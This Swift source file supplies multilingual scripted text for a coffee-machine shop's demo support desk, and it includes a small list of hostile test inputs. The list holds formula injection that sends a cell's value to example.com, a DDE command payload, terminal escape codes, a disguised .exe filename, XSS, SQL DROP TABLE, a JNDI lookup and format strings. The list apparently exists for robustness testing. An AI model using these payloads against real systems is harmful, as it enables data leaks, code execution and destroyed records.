/// All that is said in the demo, by a shop for coffee machines, its customers and its AI agent.
enum Phrasebook {
  /// In the order of `Language`; the last topic of each is the one with the long subject.
  private static let topics: [[Topic]] = [english, german, japanese, portuguese, french, spanish, chinese]

  /// What a customer writes about; one in 33 at length, one in 200 with something nasty.
  static func topic(_ language: Language, ticketNumber: Int, _ dice: inout Dice) -> Topic {
    if ticketNumber % 200 == 57 { return dice.pick(hostile) }
    let known = topics[language.rawValue]
    return dice.chance(percent: 3) ? known[known.count - 1] : known[dice.below(known.count - 1)]
  }

  /// The AI agent's last words before a human takes over, in the order of `Language`.
  static let handOff: [Phrase] = [
    "Thanks! I'm passing you on to my colleagues. Somebody will be with you shortly. 🤖",
    "Danke! Ich gebe Sie an meine Kolleginnen und Kollegen weiter. Gleich ist jemand für Sie da. 🤖",
    "ありがとうございます。担当者におつなぎしますので、少々お待ちください。🤖",
    "Obrigado! Vou passar a conversa para a nossa equipe. Alguém já fala com você. 🤖",
    "Merci ! Je vous mets en relation avec l'équipe, quelqu'un arrive. 🤖",
    "¡Gracias! Le paso con el equipo, enseguida le atienden. 🤖",
    "谢谢！正在为您转接人工客服，请稍候。🤖",
  ]

  /// Internal notes: agents write in their own languages.
  static let notes: [Phrase] = [
    "Checked with the warehouse: the parcel for {n} left yesterday.",
    "Customer called as well, see {n}. Please don't promise a date.",
    "VIP? Spent a lot last year – goodwill is fine up to 20 €.",
    "Refund approved by Siobhán ✅",
    "Dritter Defekt dieser Charge, bitte an die Technik melden (#{n}).",
    "Rückruf vereinbart für morgen früh, Kollegin übernimmt.",
    "翌営業日に倉庫へ確認します。",
    "Aguardando o retorno da transportadora 🚚",
  ]

  /// What real customers send, too: controls for terminals, reversed text, formulas, markup.
  private static let hostile: [Topic] = [
    Topic(
      .technical, "\"bug\"", "=1+1",
      "=HYPERLINK(\"http://example.com/?q=\"&A1,\"click\")\n+49 171 3920001\n@SUM(1+1)",
      reply: "Could you send us that as plain text, please?", then: "-2+3+cmd|' /C calc'!A0"),
    Topic(
      .support, "\"bug\"", "\u{1B}[31mRED ALERT\u{1B}[0m \u{1B}]0;owned\u{07}",
      "\u{1B}[2J\u{1B}[1;1Hyour screen is mine\u{1B}[?25l\r\nline two\u{8}\u{7F}\u{9B}31m",
      reply: "We received only odd characters. What can we do for you?", then: "\u{1B}c sorry, my terminal"),
    Topic(
      .billing, "\"invoice\"", "Invoice \u{202E}fdp.exe",
      "Please open \u{2066}invoice\u{202E}fdp.exe\u{2069} – order {n}\u{2028}thanks",
      reply: "We don't open such files. Is it about order {n}?", then: "\u{200F}نعم\u{200E}, order {n}"),
    Topic(
      .support, "\"spam\"", "</script><script>alert(1)</script>",
      "{{ticket.requester.email}} {% raw %} '; DROP TABLE ticket; -- \\u0000 \"\\",
      reply: "Hello! Is there something that we can help with?", then: "${jndi:ldap://example.com/a} %s%n"),
  ]
}
